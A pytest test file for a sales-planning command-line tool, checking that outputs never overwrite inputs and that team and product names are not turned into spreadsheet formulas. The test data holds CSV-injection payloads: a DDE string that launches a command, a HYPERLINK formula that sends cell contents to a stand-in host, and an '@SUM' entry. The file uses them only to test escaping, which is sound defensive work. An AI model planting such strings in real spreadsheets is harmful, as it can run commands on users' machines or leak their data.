"""Outputs never destroy inputs (issue 10): refusals, --force, manifests, stale temps, Ctrl-C,
no formula from user text in baselines.xlsx, --csv-safe."""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from conftest import run_cli

from planner import api
from planner import names as n
from planner.atomic import STALE_SECONDS, clean_stale
from planner.errors import OutputRefusedError
from planner.output_guard import (
    Source,
    check_output_dir,
    data_sources,
    is_planner_output,
    scenario_sources,
    write_manifest,
)
from planner.scenario import load_scenario

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")

CMD_TEAM = "=cmd|' /C calc'!A0"
LINK_TEAM = '=HYPERLINK("http://x/?"&A1,"click")'
AT_PRODUCT = "@SUM(A1)"
BASE = """name = "base"
[data]
dir = "data"
mapping = "map.toml"
[calendar]
year = 2027
official = true
[target]
multiple = 1.3
[levers.customers]
cap = 0.5
[levers.productivity]
cap = 2.0
"""
CHILD = 'base = "base.toml"\nname = "child"\n'
MAPPING = '[sales]\nfile = "sales.csv"\n'
EXISTS = "already exists; pass --force to replace it or choose another --out"
NOT_OURS = "already exists and was not written by planner; remove it yourself or choose another --out"


def _trimmed(sample_dir: Path, folder: Path) -> Path:
    """The sample data with every 40th sale: the same shape, loaded in a blink."""
    folder.mkdir(parents=True)
    for table in ("seats", "products", "customers"):
        (folder / f"{table}.csv").write_bytes((sample_dir / f"{table}.csv").read_bytes())
    sales = pd.read_csv(sample_dir / "sales.csv", dtype=str, keep_default_na=False)
    sales.iloc[::40].to_csv(folder / "sales.csv", index=False)
    return folder


@pytest.fixture(scope="module")
def small(sample_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _trimmed(sample_dir, tmp_path_factory.mktemp("small") / "data")


@pytest.fixture
def project(small: Path, tmp_path: Path) -> Path:
    """A folder with data/, map.toml, base.toml and child.toml (which extends base)."""
    root = tmp_path.resolve()
    (root / "data").mkdir()
    for path in small.iterdir():
        (root / "data" / path.name).write_bytes(path.read_bytes())
    (root / "map.toml").write_text(MAPPING, encoding="utf-8")
    (root / "base.toml").write_text(BASE, encoding="utf-8")
    (root / "child.toml").write_text(CHILD, encoding="utf-8")
    return root


def hashes(root: Path) -> dict[str, str]:
    """SHA-256 of every input of the project: the history files and the TOML files."""
    inputs = [*sorted((root / "data").iterdir()), *sorted(root.glob("*.toml"))]
    return {p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in inputs}


def refusal(out: Path, what: str, path: Path, how: str) -> str:
    fix = {"is": "choose another --out",
           "contains": "choose another --out that does not hold the run's inputs",
           "lies inside": "choose another --out outside it"}[how]
    return (f"planner: error: output directory {out} {how} the {what} {path}, which this run "
            f"reads; {fix}\n")


# --- refusals -----------------------------------------------------------------------

CASES = [
    # (--out relative to the project, what, input, how)
    ("data", "history folder", "data", "is"),
    ("data/out", "history folder", "data", "lies inside"),
    (".", "scenario file", "child.toml", "contains"),
    ("child.toml", "scenario file", "child.toml", "is"),
    ("base.toml", "base scenario file", "base.toml", "is"),
    ("map.toml", "mapping file", "map.toml", "is"),
    ("base.toml/out", "base scenario file", "base.toml", "lies inside"),
]


@pytest.mark.parametrize("command", ["plan", "drivers", "sweep", "baselines", "compare"])
@pytest.mark.parametrize(("out", "what", "source", "how"), CASES)
def test_out_touching_an_input_is_refused(project: Path, command: str, out: str, what: str,
                                          source: str, how: str) -> None:
    before = hashes(project)
    run = run_cli(command, project / "child.toml", "--out", project / out, "--force")
    assert run.status == 2
    assert run.stderr == refusal(project / out, what, project / source, how)
    assert hashes(project) == before
    assert sorted(p.name for p in project.iterdir()) == [
        "base.toml", "child.toml", "data", "map.toml"]


def test_links_and_dots_are_resolved(project: Path) -> None:
    (project / "link").symlink_to(project / "data")
    before = hashes(project)
    run = run_cli("plan", project / "child.toml", "--out", project / "link", "--force")
    assert run.status == 2
    assert run.stderr == refusal(Path(f"{project / 'link'} (= {project / 'data'})"),
                                 "history folder", project / "data", "is")
    dotted = project / "data" / ".." / "data"
    run = run_cli("drivers", project / "child.toml", "--out", dotted, "--force")
    assert run.stderr == refusal(dotted, "history folder", project / "data", "is")
    assert hashes(project) == before and (project / "data" / "sales.csv").is_file()


def test_relative_out_is_resolved(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(project)
    run = run_cli("baselines", "--data", "data", "--out", "data", "--force")
    assert run.status == 2
    assert run.stderr == refusal(Path("data"), "history folder", project / "data", "is")


def test_baselines_from_a_data_folder_and_a_mapping(project: Path) -> None:
    elsewhere = project / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "sales.csv").write_text("date,seat,product,amount\n")
    (project / "far.toml").write_text('[sales]\nfile = "../elsewhere/sales.csv"\n')
    run = run_cli("baselines", "--data", project / "data", "--mapping", project / "far.toml",
                  "--out", elsewhere, "--force")
    assert run.status == 2
    assert run.stderr == refusal(elsewhere, "sales file",
                                 project / "elsewhere" / "sales.csv", "contains")
    assert [s.what for s in data_sources(project / "data", str(project / "far.toml"))] == [
        "history folder", "mapping file", "sales file"]


def test_existing_file_is_refused_even_with_force(project: Path) -> None:
    target = project / "notes.txt"
    target.write_text("mine")
    for command in ("plan", "drivers", "sweep", "baselines", "compare"):
        run = run_cli(command, project / "child.toml", "--out", target, "--force")
        assert run.status == 2
        assert run.stderr == (f"planner: error: output directory {target} is an existing file, "
                              "not a folder; choose another --out (a file is never replaced, "
                              "even with --force)\n")
    assert target.read_text() == "mine"


def test_force_never_replaces_a_user_folder(project: Path) -> None:
    mine = project / "mine"
    mine.mkdir()
    (mine / "keep.txt").write_text("mine")
    for force in ((), ("--force",)):
        run = run_cli("drivers", project / "child.toml", "--out", mine, *force)
        assert run.status == 2
        assert run.stderr == f"planner: error: output directory {mine} {NOT_OURS}\n"
    assert [p.name for p in mine.iterdir()] == ["keep.txt"]


def test_a_run_changes_no_input_and_force_replaces_its_own_folder(project: Path) -> None:
    before = hashes(project)
    out = project / "out"
    first = run_cli("drivers", project / "child.toml", "--out", out)
    assert first.status == 0, first.stderr
    assert hashes(project) == before
    manifest = json.loads((out / n.OUTPUT_MANIFEST).read_text())
    assert manifest["command"] == "drivers" and manifest["state"] == "complete"
    assert manifest["files"] == [n.DRIVERS_CSV, n.PRODUCT_TARGETS_CSV]
    again = run_cli("drivers", project / "child.toml", "--out", out)
    assert again.status == 2
    assert again.stderr == f"planner: error: output directory {out} {EXISTS}\n"
    (out / n.DRIVERS_CSV).write_text("edited")
    forced = run_cli("drivers", project / "child.toml", "--out", out, "--force")
    assert forced.status == 0, forced.stderr
    assert (out / n.DRIVERS_CSV).read_text().startswith("lever,")
    assert hashes(project) == before
    assert sorted(p.name for p in project.iterdir()) == [
        "base.toml", "child.toml", "data", "map.toml", "out"]


def test_an_empty_folder_is_used_without_force(project: Path) -> None:
    out = project / "out"
    out.mkdir()
    run = run_cli("baselines", "--data", project / "data", "--out", out)
    assert run.status == 0, run.stderr
    assert is_planner_output(out) and (out / n.BASELINES_XLSX).is_file()


def test_the_api_write_methods_are_guarded(project: Path) -> None:
    tables = api.baselines(project / "child.toml")
    assert {s.what for s in tables.sources} == {
        "scenario file", "base scenario file", "history folder", "mapping file", "sales file"}
    with pytest.raises(OutputRefusedError, match=r"^output directory .*data is the history "
                                                 r"folder .*data, which this run reads"):
        tables.write(project / "data", force=True)
    with pytest.raises(OutputRefusedError, match="base scenario file"):
        tables.write(project / "base.toml", force=True)
    written = tables.write(project / "out")
    assert written[-1] == project / "out" / n.BASELINES_XLSX
    tables.write(project / "out", force=True)
    folder = api.baselines(data_dir=project / "data")
    with pytest.raises(OutputRefusedError, match="lies inside the history folder"):
        folder.write(project / "data" / "b")


def test_scenario_sources_follow_the_base_chain(project: Path) -> None:
    (project / "grandchild.toml").write_text('base = "child.toml"\nname = "g"\n')
    sources = scenario_sources(load_scenario(project / "grandchild.toml"))
    assert [(s.what, s.path.name) for s in sources] == [
        ("scenario file", "grandchild.toml"), ("base scenario file", "child.toml"),
        ("base scenario file", "base.toml"), ("history folder", "data"),
        ("mapping file", "map.toml"), ("sales file", "sales.csv")]


def test_check_output_dir_compares_files_not_names(tmp_path: Path) -> None:
    scenario = tmp_path / "s.toml"
    scenario.write_text("")
    os.link(scenario, tmp_path / "same.toml")  # another name of the same file
    with pytest.raises(OutputRefusedError) as err:
        check_output_dir(tmp_path / "same.toml", sources=[Source("scenario file", scenario)])
    assert str(err.value) == (f"output directory {tmp_path / 'same.toml'} is the scenario file "
                              f"{scenario.resolve()}, which this run reads; choose another --out")


# --- sample-data ------------------------------------------------------------------------

def test_sample_data_never_overwrites_a_folder(tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "seats.csv").write_text("my seats")
    run = run_cli("sample-data", mine)
    assert run.status == 2
    assert run.stderr == (f"planner: error: output directory {mine} already exists and was not "
                          "written by planner; remove it yourself or choose another folder\n")
    assert run_cli("sample-data", mine, "--force").status == 2
    assert (mine / "seats.csv").read_text() == "my seats"
    ours = tmp_path / "ours"
    assert run_cli("sample-data", ours, "--parquet").status == 0
    again = run_cli("sample-data", ours, "--parquet")
    assert again.status == 2
    assert again.stderr == (f"planner: error: output directory {ours} already exists; pass "
                            "--force to replace it or choose another folder\n")
    forced = run_cli("sample-data", ours, "--parquet", "--seed", "3", "--force")
    assert forced.status == 0, forced.stderr
    assert json.loads((ours / n.OUTPUT_MANIFEST).read_text())["command"] == "sample-data"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mine", "ours"]


# --- stale temp folders ------------------------------------------------------------------

def _dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def _temp(parent: Path, name: str, manifest: dict[str, object] | None,
          age: float = 3600.0, files: tuple[str, ...] = ("plan.csv",)) -> Path:
    folder = parent / name
    folder.mkdir()
    for file in files:
        (folder / file).write_text("x")
    if manifest is not None:
        (folder / n.OUTPUT_MANIFEST).write_text(json.dumps(manifest))
    old = time.time() - age
    os.utime(folder, (old, old))
    return folder


def test_stale_temp_folders_are_cleaned_up_only_when_provably_ours(tmp_path: Path) -> None:
    building = {"planner": "output", "state": "building", "pid": _dead_pid(),
                "host": socket.gethostname()}
    complete = {"planner": "output", "state": "complete", "files": ["plan.csv"]}
    killed = _temp(tmp_path, ".out.0123456789ab.tmp", building)
    aside = _temp(tmp_path, ".out.0123456789ab.old", complete)
    empty = _temp(tmp_path, ".out.00000000000a.tmp", None, files=())
    keep = [
        _temp(tmp_path, ".out.111111111111.tmp", None),  # no manifest: not provably ours
        _temp(tmp_path, ".out.222222222222.tmp", {**building, "pid": 1}),  # pid 1 is running
        _temp(tmp_path, ".out.333333333333.tmp", {**building, "host": "elsewhere"}),
        _temp(tmp_path, ".out.444444444444.tmp", building, age=STALE_SECONDS / 2),  # young
        _temp(tmp_path, ".out.XYZXYZXYZXYZ.tmp", complete),  # not our name
        _temp(tmp_path, ".other.0123456789ab.tmp", complete),  # another output's
        _temp(tmp_path, ".out.0123456789ab.tmp.bak", complete),
        _temp(tmp_path, ".out.555555555555.tmp", {"planner": "someone else"}),
    ]
    (tmp_path / ".out.666666666666.tmp").symlink_to(aside)  # a link is never followed
    removed = clean_stale(tmp_path / "out")
    assert sorted(removed) == sorted([killed, aside, empty])
    assert all(folder.is_dir() and (folder / "plan.csv").exists() for folder in keep)
    assert (tmp_path / ".out.666666666666.tmp").is_symlink()


def test_the_next_run_removes_a_killed_runs_temp_folder(project: Path) -> None:
    marker = {"planner": "output", "state": "building", "pid": _dead_pid(),
              "host": socket.gethostname()}
    killed = _temp(project, ".out.0123456789ab.tmp", marker)
    run = run_cli("baselines", "--data", project / "data", "--out", project / "out")
    assert run.status == 0, run.stderr
    assert not killed.exists()
    assert sorted(p.name for p in project.iterdir()) == [
        "base.toml", "child.toml", "data", "map.toml", "out"]


def test_a_temp_folder_names_its_process_while_being_built(tmp_path: Path) -> None:
    folder = tmp_path / "t"
    folder.mkdir()
    write_manifest(folder, "plan", complete=False)
    doc = json.loads((folder / n.OUTPUT_MANIFEST).read_text())
    assert (doc["state"], doc["pid"], doc["command"]) == ("building", os.getpid(), "plan")
    assert not is_planner_output(folder)


# --- Ctrl-C --------------------------------------------------------------------------------

def test_ctrl_c_exits_130_and_leaves_no_temp_folder(project: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    import planner.outputs.folders as folders

    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(folders, "write_driver_tables", interrupted)
    run = run_cli("drivers", project / "child.toml", "--out", project / "out")
    assert run.status == 130
    assert run.stderr.splitlines()[-1] == (
        "planner: interrupted (Ctrl-C); nothing half-written was left behind")
    assert sorted(p.name for p in project.iterdir()) == [
        "base.toml", "child.toml", "data", "map.toml"]


# --- no formula from user text; --csv-safe -------------------------------------------------

@pytest.fixture
def hostile(project: Path) -> Path:
    """The project's data with teams and a product named like formulas."""
    data = project / "data"
    seats = pd.read_csv(data / "seats.csv", dtype=str, keep_default_na=False)
    seats["team"] = seats["team"].replace({"T01": CMD_TEAM, "T02": LINK_TEAM})
    seats.to_csv(data / "seats.csv", index=False)
    for table in ("sales", "products"):
        frame = pd.read_csv(data / f"{table}.csv", dtype=str, keep_default_na=False)
        frame["product"] = frame["product"].replace({"AM_B": AT_PRODUCT})
        frame.to_csv(data / f"{table}.csv", index=False)
    return data


def _formula_cells(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_baselines_workbook_has_no_formula_from_user_text(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "b"
    run = run_cli("baselines", "--data", hostile, "--out", out)
    assert run.status == 0, run.stderr
    assert _formula_cells(out / n.BASELINES_XLSX) == []
    book = openpyxl.load_workbook(out / n.BASELINES_XLSX)
    teams = [row[0] for row in book["teams"].iter_rows(min_row=2, values_only=True)]
    assert CMD_TEAM in teams and LINK_TEAM in teams
    products = [row[0] for row in book["products"].iter_rows(min_row=2, values_only=True)]
    assert AT_PRODUCT in products
    csv = pd.read_csv(out / "baselines_teams.csv", keep_default_na=False)
    assert CMD_TEAM in set(csv["team"])  # CSV text stays literal by default


def test_csv_safe_escapes_text_cells(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "b"
    run = run_cli("baselines", "--data", hostile, "--out", out, "--csv-safe")
    assert run.status == 0, run.stderr
    teams = pd.read_csv(out / "baselines_teams.csv", keep_default_na=False)
    assert {"'" + CMD_TEAM, "'" + LINK_TEAM} <= set(teams["team"])
    assert not teams["team"].str.match(r"^[=+\-@]").any()
    products = pd.read_csv(out / "baselines_products.csv", keep_default_na=False)
    assert "'" + AT_PRODUCT in set(products["product"])
    assert products["amount"].dtype.kind == "f"  # numbers stay numbers
    assert _formula_cells(out / n.BASELINES_XLSX) == []  # the workbook is not escaped twice
    book = openpyxl.load_workbook(out / n.BASELINES_XLSX)
    assert CMD_TEAM in [row[0] for row in book["teams"].iter_rows(values_only=True)]


def test_drivers_csv_safe(hostile: Path, project: Path) -> None:
    literal = run_cli("drivers", project / "child.toml", "--out", project / "out1")
    assert literal.status == 0, literal.stderr
    targets = pd.read_csv(project / "out1" / n.PRODUCT_TARGETS_CSV)
    assert AT_PRODUCT in set(targets["product"])
    safe = run_cli("drivers", project / "child.toml", "--out", project / "out2", "--csv-safe")
    assert safe.status == 0, safe.stderr
    escaped = pd.read_csv(project / "out2" / n.PRODUCT_TARGETS_CSV)
    assert "'" + AT_PRODUCT in set(escaped["product"])
    pd.testing.assert_series_equal(escaped["target_amount"], targets["target_amount"])


def test_plan_csv_safe_and_its_workbooks(tmp_path: Path) -> None:
    from plan_fixture import AT_TEAM, HOSTILE_TEAM, make_plan_result

    plan = api.Plan.of(make_plan_result())
    plan.write(tmp_path / "literal")
    plan.write(tmp_path / "safe", csv_safe=True)
    literal = pd.read_csv(tmp_path / "literal" / n.PLAN_CSV, keep_default_na=False)
    safe = pd.read_csv(tmp_path / "safe" / n.PLAN_CSV, keep_default_na=False)
    assert {HOSTILE_TEAM, AT_TEAM} <= set(literal[n.TEAM])
    assert set(safe[n.TEAM]) == {("'" + t if t[0] in "=+-@" else t) for t in literal[n.TEAM]}
    assert set(safe[n.PRODUCT]) == {"Trust A", "Fund B", "'+Loan C"}
    assert (safe[n.AMOUNT] == literal[n.AMOUNT]).all()
    seats = pd.read_csv(tmp_path / "safe" / n.PLAN_SEATS_CSV, keep_default_na=False)
    assert not seats[n.TEAM].str.match(r"^[=+\-@]").any()
    for book in (tmp_path / "safe").rglob("*.xlsx"):  # workbooks: user text as text anyway
        wb = openpyxl.load_workbook(book)
        texts = [cell.value for sheet in wb.worksheets for row in sheet.iter_rows()
                 for cell in row if cell.data_type == "f"]
        assert not [t for t in texts if HOSTILE_TEAM in str(t) or AT_TEAM in str(t)]
